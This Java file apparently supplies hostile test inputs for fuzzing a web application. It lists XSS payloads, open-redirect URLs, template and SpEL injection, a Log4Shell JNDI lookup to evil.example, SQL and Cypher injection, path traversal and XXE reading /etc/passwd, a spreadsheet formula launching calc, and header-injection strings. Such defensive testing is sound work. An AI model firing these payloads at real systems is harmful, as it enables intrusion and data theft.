package org.practicecommons.journeys;

import java.util.List;
import java.util.SplittableRandom;

/** Values that a program does not expect. Each holds a mark, by which it is found again wherever it went. */
final class Hostile {
    private static final List<String> VALUES = List.of(
            "<script>M</script>",
            "<img src=M onerror=M>",
            "\"><svg onload=M>",
            "</title><b>M",
            "</textarea><iframe src=M>",
            "\" onfocus=\"M\" autofocus=\"",
            "' onmouseover='M",
            "javascript:M",
            "data:text/html,<b>M",
            "//evil.example/M",
            "https://evil.example/M",
            "/\\evil.example/M",
            "${7*191}M",
            "[[${7*191}]]M",
            "__${7*191}__::M",
            "*{7*191}M",
            "@{|${7*191}|}M",
            "~{layout/page :: M}",
            "#{T(java.lang.Runtime).getRuntime()}M",
            "{{7*191}}M",
            "${jndi:ldap://evil.example/M}",
            "{0} {1} %s %n M",
            "\u202egnp.M",
            "\u2066M\u2069\u200b\u200d\ufeff",
            "M\u0000M",
            "\u0001\u0008\u001b[31mM\u007f\u009f",
            "M\r\nX-Forged: M\r\n\r\n<b>M",
            "\u2028M\u2029\u0085",
            "\ud83dM",
            "M\udc00",
            "\udc00\ud83dM",
            "M\uffff\ufffe",
            "\ud83d\ude37M\ud83c\uddec\ud83c\udde7",
            "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034fM",
            "' OR 1=1 //M",
            "x'}) DETACH DELETE n //M",
            "M` SET n.name = 'x",
            "+-&&||!(){}[]^\"~*?:\\/M",
            "M AND *:* /.*/ ~9",
            "../../../../etc/passwd M",
            "..\\..\\M",
            "%00%ff%2e%2eM",
            "=cmd|' /C calc'!M",
            "[object Object] M",
            "null",
            "undefined",
            "true",
            "",
            " ",
            "\u00a0\u3000",
            "\n\t",
            "-1",
            "0",
            "2147483648",
            "-9223372036854775809",
            "99999999999999999999999999",
            "1e309",
            "NaN",
            "0x10",
            "1,5",
            "\u0661\u0662\u0663",
            "\u2460",
            "2026-13-45",
            "0000-00-00",
            "2025-02-29",
            "-999999999-01-01",
            "+1000000000-12-31",
            "2026-01-01T25:61:61Z",
            "9999-12",
            "note/M",
            "practice/M",
            "a/b/c/d/M",
            "PRACTICE",
            "M@evil.example\r\nBcc: x@evil.example",
            "M@[127.0.0.1]",
            "xn--M--.example",
            "localhost");

    private Hostile() {}

    /** One of them, now and then a very long one. */
    static String value(SplittableRandom random, String mark) {
        int size = random.nextInt(40);
        return switch (size) {
            case 0 -> mark + "x".repeat(random.nextInt(20_000));
            case 1 -> "é".repeat(random.nextInt(5_000)) + mark;
            case 2 -> mark + "\ud83d\ude37".repeat(random.nextInt(2_000));
            case 3 -> two(random, mark) + two(random, mark);
            default -> two(random, mark);
        };
    }

    private static String two(SplittableRandom random, String mark) {
        return VALUES.get(random.nextInt(VALUES.size())).replace("M", mark);
    }

    /** A piece of JSON that is not a text, or a nest of them. */
    static String json(SplittableRandom random, String mark) {
        return switch (random.nextInt(12)) {
            case 0 -> "null";
            case 1 -> "true";
            case 2 -> "-1";
            case 3 -> "99999999999999999999999999";
            case 4 -> "1e400";
            case 5 -> "[]";
            case 6 -> "[\"" + mark + "\", 1, null]";
            case 7 -> "{\"" + mark + "\": [{}]}";
            case 8 -> "[".repeat(900) + "]".repeat(900);
            case 9 -> "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000);
            case 10 -> "[null]";
            default -> "0.1";
        };
    }

    /** A body that is no body of the kind it is said to be. */
    static String body(SplittableRandom random, String mark) {
        return switch (random.nextInt(10)) {
            case 0 -> "";
            case 1 -> "null";
            case 2 -> "[]";
            case 3 -> "\"" + mark + "\"";
            case 4 -> "{\"text\": \"" + mark;
            case 5 -> "{\"text\": \"a\", \"text\": \"" + mark + "\"}";
            case 6 -> "\ufeff{}";
            case 7 -> "[".repeat(20_000);
            case 8 -> "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
            default ->
                "--b\r\nContent-Disposition: form-data; name=\"name\"; filename=\"" + mark + "\"\r\n\r\nx\r\n--b--";
        };
    }
}
